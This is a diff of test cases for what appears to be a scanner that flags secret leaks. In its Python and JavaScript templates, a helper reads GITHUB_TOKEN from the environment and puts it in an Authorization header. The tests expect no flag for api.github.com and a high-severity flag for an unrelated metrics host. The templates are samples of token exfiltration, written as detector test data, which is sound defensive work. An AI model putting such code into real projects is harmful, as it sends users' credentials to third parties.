@@ -90,3 +90,23 @@ def test_request_object_sent_later_is_judged_by_its_address() -> None:
     assert _flagged("scripts/a.py", code.format(url="https://api.github.com/user")) == []
     elsewhere = code.format(url="https://stats.acme-metrics.io/v1")
     assert _flagged("scripts/a.py", elsewhere) == ["high"]
+
+
+PY_HELPER = (
+    "import os, requests\n"
+    "def call(path, key):\n"
+    "    return requests.get('{url}' + path, headers={{'Authorization': f'Bearer {{key}}'}})\n"
+    "call('/user', os.environ['GITHUB_TOKEN'])\n"
+)
+JS_HELPER = (
+    "async function call(key) {{\n"
+    "  return fetch('{url}', {{ headers: {{ Authorization: `token ${{key}}` }} }});\n"
+    "}}\n"
+    "call(process.env.GITHUB_TOKEN);\n"
+)
+
+
+@pytest.mark.parametrize(("path", "template"), [("a.py", PY_HELPER), ("a.js", JS_HELPER)])
+def test_key_given_to_a_helper_that_puts_it_in_the_headers(path: str, template: str) -> None:
+    assert _flagged(path, template.format(url="https://api.github.com")) == []
+    assert _flagged(path, template.format(url="https://stats.acme-metrics.io")) == ["high"]
